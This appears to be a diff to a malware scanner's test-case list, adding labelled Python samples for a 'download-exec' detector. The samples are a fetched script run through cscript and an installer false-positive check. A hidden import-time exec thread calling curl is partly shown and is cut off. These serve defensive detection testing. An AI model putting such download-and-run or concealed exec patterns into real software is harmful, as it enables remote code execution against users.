@@ -477,6 +477,14 @@ CASES = [
                     "def run():\n    data = urllib.request.urlopen(ADDR).read()\n"
                     "    open('tool', 'wb').write(data)\n    os.chmod('tool', stat.S_IEXEC)\n"},
      "code.download-exec", L, "benign: a tool installer fetches its helper from its host"),
+    ({"demo/info.py": "import subprocess, urllib.request\ndef show(url, name='s.vbs'):\n"
+                      "    urllib.request.urlretrieve(url, name)\n"
+                      "    subprocess.run(['cscript', '//nologo', name])\n"},
+     "code.download-exec", M, "a fetched script handed to the Windows script host when called"),
+    ({"demo/pdk.py": "import subprocess, urllib.request\ndef install(url):\n"
+                     "    subprocess.run('powershell [Security.Principal.WindowsIdentity]::GetCurrent()')\n"
+                     "    urllib.request.urlretrieve(url, 'pdk.tar')\n    subprocess.run(['tar', 'xf', 'pdk.tar'])\n"},
+     "code.download-exec", L, "FP regression: an installer asks powershell whether it is admin"),
     ({"demo/__init__.py": "from . import tmp\n",
       "demo/tmp.py": "try:\n    import threading\n    if True:\n        run = exec\n"
                      "        threading.Thread(target=lambda: [run(\"import os\\nos.system('curl -s "
